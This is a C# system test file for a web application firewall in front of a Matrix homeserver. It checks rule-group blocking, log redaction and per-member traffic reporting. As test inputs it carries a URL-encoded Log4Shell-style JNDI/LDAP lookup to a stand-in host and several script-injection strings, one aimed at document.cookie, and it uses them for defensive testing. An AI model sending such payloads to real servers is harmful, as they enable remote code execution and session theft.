using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Bulwark.SystemTests.Running;
using Bulwark.Testing;

namespace Bulwark.SystemTests;

public sealed class FirewallTests
{
    private const string Attack = "/_matrix/client/v3/publicRooms?server=%24%7Bjndi:ldap://192.0.2.1/plantedSecret%7D";

    [Fact]
    public async Task An_operator_sees_an_attack_in_the_log_and_turns_its_group_to_block()
    {
        await using var instance = await BulwarkInstance.StartAsync();
        using var client = instance.CreateEdgeClient();
        client.DefaultRequestHeaders.Add("User-Agent", "Element/1.11");

        Assert.NotEqual(HttpStatusCode.Forbidden, await AskAsync(client));
        var log = await LogAsync(Path.Combine(instance.Data, "log", "waf.jsonl"));
        Assert.Contains("\"known-bad-inputs\"", log, StringComparison.Ordinal);
        Assert.DoesNotContain("plantedSecret", log, StringComparison.OrdinalIgnoreCase);

        var set = await instance.VerbAsync("waf", "mode", "known-bad-inputs", "block");
        Assert.Equal(0, set.ExitCode);
        Assert.Contains("Firewall of the edge: group known-bad-inputs is 'block' now.", set.Output, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Forbidden, await AskAsync(client));
        Assert.Contains("known-bad-inputs", (await instance.VerbAsync("waf", "status", "--tier", "edge")).Output, StringComparison.Ordinal);
        Assert.NotEqual(0, (await instance.VerbAsync("waf", "mode", "nothing", "block")).ExitCode);
    }

    [Fact]
    public async Task The_log_tells_members_apart_by_what_the_services_verified_and_the_report_says_their_share()
    {
        await using var instance = await BulwarkInstance.StartAsync();
        using var edge = instance.CreateEdgeClient();
        edge.DefaultRequestHeaders.Add("User-Agent", "Element/1.11");
        var laptop = await MatrixClient.SignInAsync(edge, await instance.TokenAsync("--user", "alice"));
        var phone = await MatrixClient.SignInAsync(edge, await instance.TokenAsync("--user", "alice"));
        var other = await MatrixClient.SignInAsync(edge, await instance.TokenAsync("--user", "bob"));
        Assert.False(laptop.AccessToken == phone.AccessToken);

        // Their tokens are opaque to the edge: only the homeserver can say whose they are, with its answer to this very request.
        foreach (var device in new[] { laptop, phone, other })
            await device.GetAsync("/_matrix/client/v3/account/whoami?x=%3Cscript%3Ealert(1)%3C/script%3E");

        // The data API has tokens that say it themselves; it is the same alice to whom they belong.
        using var query = new HttpRequestMessage(HttpMethod.Post, "/v1/graphql");
        query.Headers.Authorization = new("Bearer", await instance.TokenAsync("--user", "alice"));
        query.Content = JsonContent.Create(new JsonObject { ["query"] = "{ __typename } # <script>alert(document.cookie)</script>" });
        (await edge.SendAsync(query, TestContext.Current.CancellationToken)).Dispose();
        Assert.NotEqual(HttpStatusCode.OK, await AskAsync(edge));

        Assert.Equal(0, await instance.StopAsync());
        var lines = (await File.ReadAllLinesAsync(Path.Combine(instance.Data, "log", "waf.jsonl"), TestContext.Current.CancellationToken)).Select(line => JsonNode.Parse(line)!).ToList();
        var members = lines.Where(line => line["kind"] is null).Select(line => (string?)line["member"]).ToList();
        Assert.Equal(5, members.Count);
        Assert.NotNull(members[0]);
        Assert.Equal([members[0], members[0], members[2], members[0], null], members);
        Assert.NotEqual(members[0], members[2], StringComparer.Ordinal);

        var report = JsonNode.Parse((await instance.VerbAsync("waf", "report", "--json")).Output)!;
        Assert.Equal("5 2 4", $"{report["requests"]} {report["members"]} {report["memberRequests"]}");
        var traffic = report["traffic"]!;
        Assert.Equal(lines.Where(line => (string?)line["kind"] == "traffic").Sum(line => (long)line["requests"]!), (long)traffic["requests"]!);
        Assert.Equal(4, (long)traffic["memberRequests"]!);
        Assert.All(report["rules"]!.AsArray(), rule => Assert.Equal((long)rule!["hits"]! / (double)(long)traffic["requests"]!, (double)rule["trafficShare"]!));
    }

    private static async Task<HttpStatusCode> AskAsync(HttpClient client)
    {
        using var answer = await client.GetAsync(Attack, TestContext.Current.CancellationToken);
        return answer.StatusCode;
    }

    private static async Task<string> LogAsync(string file)
    {
        var deadline = Deadline.Token();
        while (!File.Exists(file) || new FileInfo(file).Length == 0)
            await Task.Delay(TimeSpan.FromMilliseconds(20), deadline);

        return await File.ReadAllTextAsync(file, deadline);
    }
}
